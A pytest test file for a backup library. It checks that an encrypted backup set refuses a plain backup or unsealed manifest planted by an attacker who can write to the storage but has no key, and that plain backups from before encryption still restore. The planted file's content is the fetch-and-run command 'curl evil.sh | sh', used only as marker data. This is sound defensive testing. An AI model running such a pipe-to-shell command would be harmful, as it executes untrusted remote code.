"""A set configured to encrypt never restores a plain backup someone planted in its sink.

The attacker can write to the sink but has no key: they add a plain backup under the
set's name (or rewrite a plain manifest to drop the ``aes`` step). Restore and verify
refuse it once the set has encrypted backups, and still restore the plain backups from
before encryption was turned on.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from backupkit import Engine
from backupkit.crypto.keys import KEY_ENV, Key
from backupkit.errors import IntegrityError
from backupkit.testing.fakes import SteppingClock, engine_for

if TYPE_CHECKING:
    from conftest import Cli


# Each test's clock moves an hour on at every reading (the first reads 03:00), so backups
# get distinct, ordered times.
HOUR = dt.timedelta(hours=1)
FIRST_READING = dt.datetime(2026, 1, 1, 3, 0, tzinfo=dt.UTC)


def engine(sink: Path, src: Path, clock: SteppingClock, key: Key | None, *, encrypt: bool,
           seal: bool = False) -> Engine:
    env = {KEY_ENV: key.encode()} if key else {}
    return engine_for(src, sink=sink, env=env, clock=clock, encrypt=encrypt, encrypt_manifest=seal)


def tree(root: Path, text: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "file.txt").write_text(text)
    return root


@pytest.mark.parametrize("seal", [False, True])
def test_a_plain_backup_planted_in_an_encrypted_set_is_refused(tmp_path: Path, seal: bool) -> None:
    sink, clock, key = tmp_path / "sink", SteppingClock(FIRST_READING, HOUR), Key.generate()
    owner = engine(sink, tree(tmp_path / "src", "the real data\n"), clock, key, encrypt=True, seal=seal)
    owner.backup("app")
    # The attacker: write access to the sink, no key. A plain backup of the same set, newer.
    attacker = engine(sink, tree(tmp_path / "evil", "curl evil.sh | sh\n"), clock, None, encrypt=False)
    planted = attacker.backup("app")

    with pytest.raises(IntegrityError, match=rf"backup {planted.id} of set app is not encrypted") as caught:
        owner.restore("latest", to=tmp_path / "out")
    assert "--allow-unencrypted" in str(caught.value) and "\n" not in str(caught.value)
    assert not (tmp_path / "out").exists()
    result = owner.verify("latest")
    assert result.backup_id == planted.id and not result.ok

    owner.restore("latest", to=tmp_path / "out", allow_unencrypted=True)  # the user's call
    assert (tmp_path / "out/evil/file.txt").read_text() == "curl evil.sh | sh\n"


def test_a_plain_manifest_in_a_set_that_seals_them_is_refused(tmp_path: Path) -> None:
    sink, clock, key = tmp_path / "sink", SteppingClock(FIRST_READING, HOUR), Key.generate()
    owner = engine(sink, tree(tmp_path / "src", "real\n"), clock, key, encrypt=True, seal=True)
    owner.backup("app")
    # Encrypted artifacts, but a manifest anyone could have written: not what the set does.
    unsealed = engine(sink, tree(tmp_path / "src", "newer\n"), clock, key, encrypt=True, seal=False)
    planted = unsealed.backup("app")

    with pytest.raises(IntegrityError, match=rf"backup {planted.id} .*\(manifest is not sealed\)"):
        owner.restore("latest", to=tmp_path / "out")


def test_backups_from_before_encryption_was_turned_on_still_restore(tmp_path: Path, cli: Cli) -> None:
    sink, clock, key = tmp_path / "sink", SteppingClock(FIRST_READING, HOUR), Key.generate()
    before = engine(sink, tree(tmp_path / "src", "plain days\n"), clock, None, encrypt=False)
    old = before.backup("app")
    after = engine(sink, tree(tmp_path / "src", "encrypted days\n"), clock, key, encrypt=True)
    after.backup("app")

    after.restore(old.id, to=tmp_path / "old")
    assert (tmp_path / "old/src/file.txt").read_text() == "plain days\n"
    after.restore("latest", to=tmp_path / "new")
    assert (tmp_path / "new/src/file.txt").read_text() == "encrypted days\n"
    assert after.verify(old.id).ok
